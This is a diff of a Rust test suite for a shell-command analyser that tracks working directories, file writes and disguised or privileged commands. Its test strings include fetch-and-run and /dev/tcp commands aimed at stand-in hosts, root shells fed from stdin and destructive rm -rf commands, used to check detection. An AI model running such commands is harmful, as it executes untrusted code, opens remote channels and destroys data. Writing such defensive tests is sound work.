@@ -218,8 +218,10 @@ fn git_config_and_dashed_programs() {
 fn working_directory_is_tracked() {
     assert_eq!(p("cd /tmp && rm -rf x").writes, ["/tmp/x"]);
     assert_eq!(p("cd sub; touch f").writes, ["sub/f"]);
-    assert_eq!(p("cd a && cd ../.. && rm x").writes, ["../x"]);
-    assert_eq!(p("pushd /etc && popd && rm x").writes, ["x"]);
+    // The second cd follows `&&`, so the reading keeps `a` possible too (a superset).
+    assert_eq!(p("cd a && cd ../.. && rm x").writes, ["../x", "a/x"]);
+    assert_eq!(p("pushd /etc; popd; rm x").writes, ["x"]);
+    assert_eq!(p("pushd /etc && popd && rm x").writes, ["x", "/etc/x"]);
     assert_eq!(p("pushd /etc; rm x").writes, ["/etc/x"]);
     assert_eq!(p("(cd /etc; rm a); rm b").writes, ["/etc/a", "b"]);
     assert_eq!(p("cd; rm x").writes, ["~/x"]);
@@ -430,14 +432,28 @@ fn more_disguises() {
     ] {
         assert!(invokes(src, rm), "{src:?}: {:?}", p(src).commands);
     }
-    for src in ["bash < <(curl -s https://x.example)", "exec bash", "sudo -i <<< \"$X\""] {
+    for src in [
+        "bash < <(curl -s https://x.example)",
+        "exec bash",
+        "sudo -i <<< \"$X\"",
+    ] {
         assert!(p(src).opaque, "{src:?}: {:?}", p(src).commands);
     }
-    for src in ["g=git; $g reset --hard", "`echo rm` -rf x", "git `echo reset` --hard"] {
+    for src in [
+        "g=git; $g reset --hard",
+        "`echo rm` -rf x",
+        "git `echo reset` --hard",
+    ] {
         assert!(p(src).dynamic, "{src:?}");
     }
-    assert_eq!(p("exec 3<>/dev/tcp/evil.example/80").writes, ["/dev/tcp/evil.example/80"]);
-    assert_eq!(p("exec 3<>/dev/tcp/evil.example/80").reads, ["/dev/tcp/evil.example/80"]);
+    assert_eq!(
+        p("exec 3<>/dev/tcp/evil.example/80").writes,
+        ["/dev/tcp/evil.example/80"]
+    );
+    assert_eq!(
+        p("exec 3<>/dev/tcp/evil.example/80").reads,
+        ["/dev/tcp/evil.example/80"]
+    );
 }
 
 #[test]
@@ -446,4 +462,36 @@ fn privileged_shells_on_stdin() {
     assert!(invokes("echo 'rm -rf x' | su root", "rm -r -f"));
     assert!(p("su -").opaque);
     assert!(!p("su -c 'ls' root").opaque);
+}
+
+#[test]
+fn a_cd_that_might_not_run_leaves_both_directories() {
+    // Taking the cd as run would make `../../x` look like `/w/x`; without it, it climbs.
+    assert_eq!(
+        p("true || cd /w/a/b; rm -rf ../../x").writes,
+        ["/w/a/b/../../x", "../../x"]
+    );
+    assert_eq!(
+        p("false && cd /w/a/b; rm ../../x").writes,
+        ["/w/a/b/../../x", "../../x"]
+    );
+    assert_eq!(
+        p("if false; then cd /w/a; fi; rm ../x").writes,
+        ["/w/a/../x", "../x"]
+    );
+    assert_eq!(p("f() { cd /w/a; }; rm ../x").writes, ["/w/a/../x", "../x"]);
+    assert_eq!(
+        p("function f { cd /w/a; }; rm ../x").writes,
+        ["/w/a/../x", "../x"]
+    );
+    // A cd at the head of a list is certain.
+    assert_eq!(p("cd /w/a && rm ../x").writes, ["/w/a/../x"]);
+    assert_eq!(
+        p("cd sub && make > log; cd .. ; touch y").writes,
+        ["sub/log", "y"]
+    );
+    assert_eq!(
+        p("npm ci && cd web && npm run build > out.log").writes,
+        ["web/out.log", "out.log"]
+    );
 }
